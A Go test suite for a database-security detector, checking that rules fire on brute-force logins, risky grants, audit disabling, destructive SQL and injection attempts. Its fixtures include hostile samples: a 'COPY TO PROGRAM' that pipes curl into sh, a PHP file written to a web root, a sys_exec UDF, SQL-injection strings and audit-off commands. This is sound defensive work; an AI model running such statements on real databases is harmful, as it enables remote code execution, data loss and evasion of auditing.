package detect

import (
	"fmt"
	"testing"
	"time"

	"github.com/dbsec/dbsec/pkg/event"
)

// t0 is a Monday 10:00 UTC, inside the default business hours.
var t0 = time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)

type recorder struct{ fs []event.Detection }

func (r *recorder) add(f *event.Detection) { r.fs = append(r.fs, f.Clone()) }

// newTest returns a detector whose learning periods are over at once.
func newTest(t testing.TB, mod func(*Rules)) (*Detector, *recorder) {
	t.Helper()
	r := DefaultRules()
	for _, k := range []string{"D07", "D19", "D29", "D30", "D31", "D33"} {
		r.Rule(k).Learning = 0
	}
	if mod != nil {
		mod(&r)
	}
	rec := &recorder{}
	d, err := New(r, Options{OnFinding: rec.add, IDGen: event.NewIDGen()})
	if err != nil {
		t.Fatal(err)
	}
	return d, rec
}

type evOpt func(*event.Event)

func at(d time.Duration) evOpt { return func(e *event.Event) { e.Time = t0.Add(d) } }
func ip(s string) evOpt        { return func(e *event.Event) { e.ClientIP = s } }
func sys(s event.System) evOpt { return func(e *event.Event) { e.System = s } }
func rows(n int64) evOpt       { return func(e *event.Event) { e.Rows, e.HasRows = n, true } }
func status(code string) evOpt {
	return func(e *event.Event) { e.StatusCode, e.Outcome = code, event.OutcomeFailure }
}
func raw(s string) evOpt            { return func(e *event.Event) { e.Raw = s } }
func cat(c event.Category) evOpt    { return func(e *event.Event) { e.Category = c } }
func outcome(o event.Outcome) evOpt { return func(e *event.Event) { e.Outcome = o } }
func reason(s string) evOpt         { return func(e *event.Event) { e.Reason = s } }
func db(s string) evOpt             { return func(e *event.Event) { e.Database = s } }
func mk(opts ...evOpt) *event.Event {
	e := &event.Event{Time: t0, Source: "tidb1", System: event.SystemTiDB, ClientIP: "10.0.0.5"}
	for _, o := range opts {
		o(e)
	}
	return e
}

func login(user string, ok bool, opts ...evOpt) *event.Event {
	e := mk(opts...)
	e.User, e.Action, e.Category = user, event.ActionConnect, event.CategoryLogin
	if ok {
		e.Outcome = event.OutcomeSuccess
	} else {
		e.Outcome = event.OutcomeFailure
	}
	return e
}

func stmt(user, sql string, opts ...evOpt) *event.Event {
	e := mk(append([]evOpt{outcome(event.OutcomeSuccess)}, opts...)...)
	e.User, e.Statement = user, sql
	return e
}

func redash(opts ...evOpt) *event.Event {
	return mk(append([]evOpt{sys(event.SystemRedash), ip("198.51.100.20")}, opts...)...)
}

func repeat(n int, f func(i int) *event.Event) []*event.Event {
	out := make([]*event.Event, n)
	for i := range out {
		out[i] = f(i)
	}
	return out
}

func cat2(a ...[]*event.Event) []*event.Event {
	var out []*event.Event
	for _, x := range a {
		out = append(out, x...)
	}
	return out
}

func one(e ...*event.Event) []*event.Event { return e }

type ruleCase struct {
	name   string
	rule   string // catalog name
	sev    string // "" = any; with want=false: that severity must not fire
	want   bool
	last   bool // only findings of the last event count
	mod    func(*Rules)
	events []*event.Event
}

func sec(n int) time.Duration { return time.Duration(n) * time.Second }

func ruleCases() []ruleCase {
	pub := "203.0.113.5"
	return []ruleCase{
		// D01
		{name: "10 failures in 5m", rule: "brute_force_user", want: true, events: repeat(10, func(i int) *event.Event { return login("bob", false, at(sec(i*20))) })},
		{name: "9 failures", rule: "brute_force_user", events: repeat(9, func(i int) *event.Event { return login("bob", false, at(sec(i*20))) })},
		{name: "10 failures over 1h", rule: "brute_force_user", events: repeat(10, func(i int) *event.Event { return login("bob", false, at(time.Duration(i)*7*time.Minute)) })},
		// D02
		{name: "8 in 2m from one IP", rule: "brute_force_source", want: true, events: repeat(8, func(i int) *event.Event { return login(fmt.Sprint("u", i%2), false, ip(pub), at(sec(i*10))) })},
		{name: "7 in 2m", rule: "brute_force_source", events: repeat(7, func(i int) *event.Event { return login("u", false, ip(pub), at(sec(i*10))) })},
		{name: "pooler counts per user", rule: "brute_force_source", mod: func(r *Rules) { r.Settings.PoolerNetworks = []string{"10.9.0.0/16"}; r.finish("t") },
			events: repeat(8, func(i int) *event.Event { return login(fmt.Sprint("u", i), false, ip("10.9.0.1"), at(sec(i*10))) })},
		// D03
		{name: "spray 10 users", rule: "password_spray", sev: SevWarning, want: true, events: repeat(20, func(i int) *event.Event { return login(fmt.Sprint("user", i%10), false, ip(pub), at(sec(i*30))) })},
		{name: "spray then success", rule: "password_spray", sev: SevCritical, want: true, last: true, events: cat2(
			repeat(20, func(i int) *event.Event { return login(fmt.Sprint("user", i%10), false, ip(pub), at(sec(i*30))) }),
			one(login("user3", true, ip(pub), at(11*time.Minute))))},
		{name: "10 users but 6 tries each", rule: "password_spray", events: repeat(60, func(i int) *event.Event { return login(fmt.Sprint("user", i/6), false, ip(pub), at(sec(i*10))) })},
		// D04
		{name: "5 IPs for one user", rule: "distributed_brute_force", want: true, events: repeat(5, func(i int) *event.Event {
			return login("alice", false, ip(fmt.Sprint("198.51.100.", i)), at(sec(i*60)))
		})},
		{name: "4 IPs", rule: "distributed_brute_force", events: repeat(4, func(i int) *event.Event {
			return login("alice", false, ip(fmt.Sprint("198.51.100.", i)), at(sec(i*60)))
		})},
		// D05
		{name: "5 failures then success", rule: "brute_force_success", sev: SevCritical, want: true, events: cat2(
			repeat(5, func(i int) *event.Event { return login("carol", false, at(sec(i*10))) }), one(login("carol", true, at(sec(60)))))},
		{name: "4 failures then success", rule: "brute_force_success", events: cat2(
			repeat(4, func(i int) *event.Event { return login("carol", false, at(sec(i*10))) }), one(login("carol", true, at(sec(60)))))},
		// D07
		{name: "root from a new /24", rule: "new_network_login", want: true, last: true, events: one(login("root", true, ip("10.1.1.1")), login("root", true, ip("10.2.2.2"), at(time.Minute)))},
		{name: "root from a new public /24 is critical", rule: "new_network_login", sev: SevCritical, want: true, last: true, events: one(login("root", true, ip("10.1.1.1")), login("root", true, ip(pub), at(time.Minute)))},
		{name: "root from the same /24", rule: "new_network_login", last: true, events: one(login("root", true, ip("10.1.1.1")), login("root", true, ip("10.1.1.9"), at(time.Minute)))},
		{name: "while learning", rule: "new_network_login", mod: func(r *Rules) { r.Rule("D07").Learning = Duration(7 * 24 * time.Hour) },
			events: one(login("root", true, ip("10.1.1.1")), login("root", true, ip("10.2.2.2"), at(time.Minute)))},
		// D08
		{name: "root at 03:00", rule: "off_hours_privileged", sev: SevInfo, want: true, events: one(login("root", true, at(17*time.Hour)))},
		{name: "DDL by root at 03:00", rule: "off_hours_privileged", sev: SevWarning, want: true, events: one(stmt("root", "DROP TABLE t", at(17*time.Hour)))},
		{name: "root at 10:00", rule: "off_hours_privileged", events: one(login("root", true))},
		{name: "alice at 03:00", rule: "off_hours_privileged", events: one(login("alice", true, at(17*time.Hour)))},
		// D09
		{name: "success from public IP", rule: "unexpected_network", sev: SevWarning, want: true, events: one(login("alice", true, ip(pub)))},
		{name: "root from public IP", rule: "unexpected_network", sev: SevCritical, want: true, events: one(login("root", true, ip(pub)))},
		{name: "3 failures from public IP", rule: "unexpected_network", want: true, events: repeat(3, func(i int) *event.Event { return login("x", false, ip(pub), at(sec(i))) })},
		{name: "private IP", rule: "unexpected_network", events: one(login("alice", true, ip("192.168.1.4")))},
		{name: "allowlisted CIDR", rule: "unexpected_network", mod: func(r *Rules) { r.Rule("D09").Allow.CIDRs = []string{"203.0.113.0/24"}; r.finish("t") }, events: one(login("alice", true, ip(pub)))},
		// D10 / D11 / D12 / D13
		{name: "GRANT ALL ON *.*", rule: "broad_privilege_grant", want: true, events: one(stmt("alice", "GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'"))},
		{name: "GRANT SUPER", rule: "broad_privilege_grant", want: true, events: one(stmt("alice", "GRANT SUPER ON *.* TO bob"))},
		{name: "GRANT SELECT on a table", rule: "broad_privilege_grant", events: one(stmt("alice", "GRANT SELECT ON shop.orders TO bob"))},
		{name: "allowlisted actor", rule: "broad_privilege_grant", mod: func(r *Rules) { r.Rule("D10").Allow.Users = []string{"terraform*"} }, events: one(stmt("terraform_ci", "GRANT ALL ON *.* TO bob"))},
		{name: "WITH GRANT OPTION", rule: "grant_with_grant_option", want: true, events: one(stmt("alice", "GRANT SELECT ON shop.* TO bob WITH GRANT OPTION"))},
		{name: "no grant option", rule: "grant_with_grant_option", events: one(stmt("alice", "GRANT SELECT ON shop.* TO bob"))},
		{name: "empty password", rule: "insecure_account_created", sev: SevCritical, want: true, events: one(stmt("alice", "CREATE USER 'x'@'10.0.0.1' IDENTIFIED BY ''"))},
		{name: "host %", rule: "insecure_account_created", sev: SevCritical, want: true, events: one(stmt("alice", "CREATE USER 'x'@'%' IDENTIFIED BY 'S3cret!'"))},
		{name: "proper account is info", rule: "insecure_account_created", sev: SevInfo, want: true, events: one(stmt("alice", "CREATE USER 'x'@'10.0.0.1' IDENTIFIED BY 'S3cret!'"))},
		{name: "proper account not critical", rule: "insecure_account_created", sev: SevCritical, events: one(stmt("alice", "CREATE USER 'x'@'10.0.0.1' IDENTIFIED BY 'S3cret!'"))},
		{name: "alice changes root", rule: "privileged_account_changed", sev: SevCritical, want: true, events: one(stmt("alice", "ALTER USER 'root'@'%' IDENTIFIED BY 'new'"))},
		{name: "root changes itself", rule: "privileged_account_changed", events: one(stmt("root", "ALTER USER 'root'@'%' IDENTIFIED BY 'new'"))},
		{name: "alice changes bob", rule: "privileged_account_changed", events: one(stmt("alice", "SET PASSWORD FOR 'bob' = 'x'"))},
		{name: "3 DROP USER", rule: "privileged_account_changed", sev: SevWarning, want: true, events: repeat(3, func(i int) *event.Event { return stmt("alice", fmt.Sprintf("DROP USER u%d", i), at(sec(i*60))) })},
		// D14 / D16 / D17 / D18
		{name: "tidb_audit_enabled=0", rule: "audit_disabled", want: true, events: one(stmt("root", "SET GLOBAL tidb_audit_enabled = 0"))},
		{name: "server_audit_logging=OFF", rule: "audit_disabled", want: true, events: one(stmt("root", "SET GLOBAL server_audit_logging = OFF", sys(event.SystemMariaDB)))},
		{name: "pgaudit.log none", rule: "audit_disabled", want: true, events: one(stmt("postgres", "ALTER SYSTEM SET pgaudit.log = 'none'", sys(event.SystemPostgres)))},
		{name: "unrelated SET", rule: "audit_disabled", events: one(stmt("root", "SET GLOBAL max_connections = 500"))},
		{name: "server_audit_logging=ON is not critical", rule: "audit_disabled", sev: SevCritical, events: one(stmt("root", "SET GLOBAL server_audit_logging=ON", sys(event.SystemMariaDB)))},
		{name: "server_audit_logging=ON is info", rule: "audit_disabled", sev: SevInfo, want: true, events: one(stmt("root", "SET GLOBAL server_audit_logging=ON", sys(event.SystemMariaDB)))},
		{name: "pgaudit.log all is not critical", rule: "audit_disabled", sev: SevCritical, events: one(stmt("postgres", "ALTER SYSTEM SET pgaudit.log = 'all'", sys(event.SystemPostgres)))},
		{name: "pgaudit.log narrowed", rule: "audit_disabled", sev: SevCritical, want: true, events: one(stmt("postgres", "ALTER SYSTEM SET pgaudit.log = 'all, -misc, -read'", sys(event.SystemPostgres)))},
		{name: "user excluded from audit", rule: "audit_disabled", sev: SevCritical, want: true, events: one(stmt("root", "SET GLOBAL server_audit_excl_users = 'app'", sys(event.SystemMariaDB)))},
		{name: "role excluded from pgaudit", rule: "audit_disabled", sev: SevCritical, want: true, events: one(stmt("postgres", "ALTER ROLE app SET pgaudit.log = 'none'", sys(event.SystemPostgres)))},
		{name: "audit plugin unloaded", rule: "audit_disabled", sev: SevCritical, want: true, events: one(stmt("root", "UNINSTALL PLUGIN server_audit", sys(event.SystemMariaDB)))},
		{name: "sql_log_bin=0", rule: "logging_evasion", want: true, events: one(stmt("alice", "SET sql_log_bin = 0"))},
		{name: "sql_log_bin=1", rule: "logging_evasion", events: one(stmt("alice", "SET sql_log_bin = 1"))},
		{name: "local_infile=1", rule: "dangerous_feature", sev: SevCritical, want: true, events: one(stmt("root", "SET GLOBAL local_infile = 1"))},
		{name: "local_infile=0 is a warning", rule: "dangerous_feature", sev: SevCritical, events: one(stmt("root", "SET GLOBAL local_infile = 0"))},
		{name: "UDF SONAME", rule: "server_code_loaded", want: true, events: one(stmt("root", "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'"))},
		{name: "trusted extension", rule: "server_code_loaded", events: one(stmt("postgres", "CREATE EXTENSION pg_trgm", sys(event.SystemPostgres)))},
		// D19 / D20 / D21 / D22
		{name: "DROP DATABASE", rule: "destructive_ddl", sev: SevCritical, want: true, events: one(stmt("alice", "DROP DATABASE shop"))},
		{name: "3 DROP TABLE", rule: "destructive_ddl", sev: SevCritical, want: true, last: true, events: repeat(3, func(i int) *event.Event { return stmt("alice", fmt.Sprintf("DROP TABLE t%d", i), at(sec(i*60))) })},
		{name: "first TRUNCATE", rule: "destructive_ddl", sev: SevWarning, want: true, events: one(stmt("alice", "TRUNCATE TABLE t1"))},
		{name: "second TRUNCATE same user/IP", rule: "destructive_ddl", last: true, events: one(stmt("alice", "TRUNCATE TABLE t1"), stmt("alice", "TRUNCATE TABLE t2", at(time.Hour)))},
		{name: "gh-ost shadow table", rule: "destructive_ddl", events: one(stmt("ghost", "DROP TABLE shop._orders_del"))},
		{name: "DELETE without WHERE", rule: "mass_dml", sev: SevWarning, want: true, events: one(stmt("alice", "DELETE FROM users"))},
		{name: "DELETE WHERE 1=1", rule: "mass_dml", sev: SevWarning, want: true, events: one(stmt("alice", "DELETE FROM users WHERE 1=1"))},
		{name: "DELETE 20k rows", rule: "mass_dml", sev: SevCritical, want: true, events: one(stmt("alice", "DELETE FROM users WHERE created < '2020-01-01'", rows(20000)))},
		{name: "DELETE with WHERE", rule: "mass_dml", events: one(stmt("alice", "DELETE FROM users WHERE id = 4", rows(1)))},
		{name: "DELETE with LIMIT", rule: "mass_dml", events: one(stmt("alice", "DELETE FROM users LIMIT 100"))},
		{name: "drop then ransom note", rule: "ransom_pattern", want: true, events: one(stmt("x", "DROP TABLE orders"), stmt("x", "CREATE TABLE README_TO_RECOVER (msg text)", at(5*time.Minute)))},
		{name: "drop then normal create", rule: "ransom_pattern", events: one(stmt("x", "DROP TABLE orders"), stmt("x", "CREATE TABLE orders2 (id int)", at(5*time.Minute)))},
		{name: "ransom note without drop", rule: "ransom_pattern", events: one(stmt("x", "CREATE TABLE readme (msg text)"))},
		{name: "gc_life_time 1m", rule: "recoverability_reduced", want: true, events: one(stmt("root", "SET GLOBAL tidb_gc_life_time = '1m'"))},
		{name: "gc_life_time 1h", rule: "recoverability_reduced", events: one(stmt("root", "SET GLOBAL tidb_gc_life_time = '1h'"))},
		{name: "FLASHBACK TABLE", rule: "recoverability_reduced", want: true, events: one(stmt("root", "FLASHBACK TABLE t"))},
		// D23 – D29
		{name: "INTO OUTFILE /tmp", rule: "file_access_sql", sev: SevWarning, want: true, events: one(stmt("alice", "SELECT * FROM users INTO OUTFILE '/tmp/u.csv'"))},
		{name: "INTO OUTFILE web root", rule: "file_access_sql", sev: SevCritical, want: true, events: one(stmt("alice", "SELECT '<?php ?>' INTO OUTFILE '/var/www/html/s.php'"))},
		{name: "plain SELECT", rule: "file_access_sql", events: one(stmt("alice", "SELECT * FROM users"))},
		{name: "COPY TO PROGRAM", rule: "command_exec_sql", want: true, events: one(stmt("postgres", "COPY (SELECT '') TO PROGRAM 'curl http://x | sh'", sys(event.SystemPostgres)))},
		{name: "COPY TO STDOUT", rule: "command_exec_sql", events: one(stmt("postgres", "COPY users TO STDOUT", sys(event.SystemPostgres)))},
		{name: "BACKUP to S3", rule: "external_export", want: true, events: one(stmt("alice", "BACKUP DATABASE * TO 's3://bucket/path'"))},
		{name: "BACKUP to S3 by backup user", rule: "external_export", mod: func(r *Rules) { r.Settings.BackupUsers = []string{"br"} }, events: one(stmt("br", "BACKUP DATABASE * TO 's3://bucket/path'"))},
		{name: "200k rows", rule: "large_result_set", want: true, events: one(stmt("alice", "SELECT * FROM orders", rows(200000)))},
		{name: "10 rows", rule: "large_result_set", events: one(stmt("alice", "SELECT * FROM orders", rows(10)))},
		{name: "row-volume spike", rule: "data_volume_anomaly", want: true, events: cat2(
			repeat(12, func(i int) *event.Event {
				return stmt("bi", "SELECT * FROM orders", rows(1000), at(time.Duration(i)*15*time.Minute))
			}),
			one(stmt("bi", "SELECT * FROM orders", rows(900000), at(12*15*time.Minute))))},
		{name: "steady rows", rule: "data_volume_anomaly", events: repeat(20, func(i int) *event.Event {
			return stmt("bi", "SELECT * FROM orders", rows(60000), at(time.Duration(i)*15*time.Minute))
		})},
		{name: "query spike", rule: "query_volume_spike", want: true, events: cat2(
			repeat(13, func(i int) *event.Event { return stmt("bi", "SELECT 1", at(time.Duration(i)*5*time.Minute)) }),
			repeat(1200, func(i int) *event.Event {
				return stmt("bi", "SELECT 1", at(65*time.Minute+time.Duration(i)*time.Millisecond*100))
			}))},
		{name: "steady queries", rule: "query_volume_spike", events: repeat(200, func(i int) *event.Event { return stmt("bi", "SELECT 1", at(time.Duration(i)*time.Minute)) })},
		{name: "first read of mysql.user", rule: "sensitive_first_access", want: true, events: one(stmt("alice", "SELECT user FROM mysql.user"))},
		{name: "unqualified sensitive table with db", rule: "sensitive_first_access", want: true, events: one(stmt("alice", "SELECT * FROM user", db("mysql")))},
		{name: "second read", rule: "sensitive_first_access", last: true, events: one(stmt("alice", "SELECT user FROM mysql.user"), stmt("alice", "SELECT host FROM mysql.user", at(time.Minute)))},
		{name: "ordinary table", rule: "sensitive_first_access", events: one(stmt("alice", "SELECT * FROM shop.orders"))},
		// D30 / D31
		{name: "password hash read", rule: "catalog_enumeration", sev: SevCritical, want: true, events: one(stmt("alice", "SELECT user, authentication_string FROM mysql.user"))},
		{name: "10 new catalog digests", rule: "catalog_enumeration", sev: SevWarning, want: true, events: repeat(10, func(i int) *event.Event {
			return stmt("alice", fmt.Sprintf("SELECT c%d FROM information_schema.columns", i), at(sec(i)))
		})},
		{name: "same catalog digest repeated", rule: "catalog_enumeration", events: repeat(20, func(i int) *event.Event {
			return stmt("redash", fmt.Sprintf("SELECT table_name FROM information_schema.tables WHERE table_schema = 'db%d'", i), at(sec(i)))
		})},
		{name: "app probes version", rule: "environment_probe", want: true, events: one(stmt("app_web", "SELECT @@version"))},
		{name: "human probes version", rule: "environment_probe", events: one(stmt("alice", "SELECT @@version"))},
		// D32 / D33 / D34
		{name: "app OR 1=1", rule: "sqli_artefacts", sev: SevCritical, want: true, events: one(stmt("app_web", "SELECT * FROM users WHERE name = '' OR 1=1 -- '"))},
		{name: "human UNION NULL", rule: "sqli_artefacts", sev: SevWarning, want: true, events: one(stmt("alice", "SELECT a FROM t WHERE id = 1 UNION SELECT NULL, NULL"))},
		{name: "failed stacked statement", rule: "sqli_artefacts", want: true, events: one(stmt("app_web", "SELECT 1; DROP TABLE users", status("1064")))},
		{name: "clean app query", rule: "sqli_artefacts", events: one(stmt("app_web", "SELECT * FROM users WHERE name = 'bob'"))},
		{name: "new shape from app", rule: "new_statement_shape", want: true, last: true, events: one(stmt("app_web", "SELECT a FROM t WHERE id = 1"), stmt("app_web", "SELECT a FROM t WHERE id = 2", at(time.Hour)), stmt("app_web", "SELECT * FROM secrets", at(3*time.Hour)))},
		{name: "known shape from app", rule: "new_statement_shape", last: true, events: one(stmt("app_web", "SELECT a FROM t WHERE id = 1"), stmt("app_web", "SELECT a FROM t WHERE id = 2", at(2*time.Hour)))},
		{name: "new shape from human", rule: "new_statement_shape", events: one(stmt("alice", "SELECT * FROM secrets"))},
		{name: "8 syntax errors", rule: "sql_error_burst", want: true, events: repeat(8, func(i int) *event.Event { return stmt("app_web", "SELEC x", status("1064"), at(sec(i*5))) })},
		{name: "7 syntax errors", rule: "sql_error_burst", events: repeat(7, func(i int) *event.Event { return stmt("app_web", "SELEC x", status("1064"), at(sec(i*5))) })},
		{name: "lock timeouts", rule: "sql_error_burst", events: repeat(10, func(i int) *event.Event {
			return stmt("app_web", "UPDATE t SET a=1 WHERE id=1", status("1205"), at(sec(i)))
		})},
		// D35 – D37
		{name: "10 Redash login failures", rule: "redash_login_brute_force", sev: SevWarning, want: true, events: repeat(10, func(i int) *event.Event {
			return redash(cat(event.CategoryLogin), outcome(event.OutcomeFailure), at(sec(i*10)))
		})},
		{name: "Redash 429", rule: "redash_login_brute_force", sev: SevWarning, want: true, events: one(redash(cat(event.CategoryLogin), outcome(event.OutcomeFailure), reason("throttled")))},
		{name: "Redash success after 5 failures", rule: "redash_login_brute_force", sev: SevCritical, want: true, events: cat2(
			repeat(5, func(i int) *event.Event {
				return redash(cat(event.CategoryLogin), outcome(event.OutcomeFailure), at(sec(i*10)))
			}),
			one(redash(cat(event.CategoryLogin), outcome(event.OutcomeSuccess), at(sec(60)))))},
		{name: "3 Redash failures", rule: "redash_login_brute_force", events: repeat(3, func(i int) *event.Event {
			return redash(cat(event.CategoryLogin), outcome(event.OutcomeFailure), at(sec(i*10)))
		})},
		{name: "14 Redash 403s", rule: "redash_access_denied_burst", sev: SevWarning, want: true, events: repeat(14, func(i int) *event.Event {
			return redash(cat(event.CategoryAccessDenied), outcome(event.OutcomeFailure), at(sec(i*5)))
		})},
		{name: "api_key in URL", rule: "redash_access_denied_burst", sev: SevInfo, want: true, events: one(redash(cat(event.CategoryRead), raw(`1.2.3.4 - - [..] "GET /api/queries/1/results.csv?api_key=*** HTTP/1.1" 200`)))},
		{name: "5 Redash 403s", rule: "redash_access_denied_burst", events: repeat(5, func(i int) *event.Event {
			return redash(cat(event.CategoryAccessDenied), outcome(event.OutcomeFailure), at(sec(i*5)))
		})},
		{name: "sqlmap UA", rule: "redash_scanner", want: true, events: one(redash(cat(event.CategoryAccessDenied), status("403"), raw(`"GET /api/queries HTTP/1.1" 403 12 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"`)))},
		{name: "SQLi in URI", rule: "redash_scanner", want: true, events: one(redash(cat(event.CategoryError), raw(`"GET /api/queries?id=1%20UNION%20SELECT%20NULL HTTP/1.1" 500`)))},
		{name: "browser", rule: "redash_scanner", events: one(redash(cat(event.CategoryAccessDenied), raw(`"GET /api/queries HTTP/1.1" 403 12 "-" "Mozilla/5.0"`)))},
	}
}

func TestRules(t *testing.T) {
	for _, tc := range ruleCases() {
		t.Run(tc.rule+"/"+tc.name, func(t *testing.T) {
			d, rec := newTest(t, tc.mod)
			n := 0
			for _, e := range tc.events {
				n = len(rec.fs)
				d.Consume(e)
			}
			fs := rec.fs
			if tc.last {
				fs = fs[n:]
			}
			var got *event.Detection
			for i := range fs {
				if f := &fs[i]; f.Rule == tc.rule && (tc.sev == "" || f.Severity == tc.sev) {
					got = f
				}
			}
			switch {
			case tc.want && got == nil:
				t.Fatalf("no %s %s finding; got %v", tc.rule, tc.sev, names(rec.fs))
			case !tc.want && got != nil:
				t.Fatalf("unexpected finding %s: %s", got.Rule, got.Message)
			}
			if got != nil {
				if len(got.Evidence) == 0 || got.RuleID == "" || got.Message == "" {
					t.Errorf("detection without evidence event ids, rule id or message: %+v", got)
				}
				if !contains(got.Evidence, got.EventID) {
					t.Errorf("evidence %v lacks the event the rule fired on (%s)", got.Evidence, got.EventID)
				}
				last := tc.events[len(tc.events)-1]
				if tc.last && !contains(last.Detections, tc.rule) {
					t.Errorf("ev.Detections = %v, want %s", last.Detections, tc.rule)
				}
			}
		})
	}
}

// TestEveryRuleTested checks the acceptance criterion: every in-process rule
// has a positive and a negative case.
func TestEveryRuleTested(t *testing.T) {
	pos, neg := map[string]bool{}, map[string]bool{}
	for _, tc := range ruleCases() {
		if tc.want {
			pos[tc.rule] = true
		} else {
			neg[tc.rule] = true
		}
	}
	for _, r := range Catalog() {
		if r.Kind == KindPromQL {
			continue
		}
		if !pos[r.Name] || !neg[r.Name] {
			t.Errorf("%s %s: positive %v, negative %v", r.ID, r.Name, pos[r.Name], neg[r.Name])
		}
	}
}

func names(fs []event.Detection) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+":"+f.Severity)
	}
	return out
}

func contains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

func TestDigestSetOnEvent(t *testing.T) {
	d, _ := newTest(t, nil)
	e := stmt("alice", "select 1")
	d.Consume(e)
	if e.Digest != "e1c71d1661ae46e09b7aaec1c390957f0d6260410df4e4bc71b9c8d681021471" {
		t.Errorf("digest %q", e.Digest)
	}
	if e.ID == "" {
		t.Error("no event id assigned")
	}
}

func TestDisabledRule(t *testing.T) {
	off := false
	d, rec := newTest(t, func(r *Rules) { r.Rule("audit_disabled").Enabled = &off })
	d.Consume(stmt("root", "SET GLOBAL tidb_audit_enabled = 0"))
	if len(rec.fs) != 0 {
		t.Fatalf("disabled rule fired: %v", names(rec.fs))
	}
}
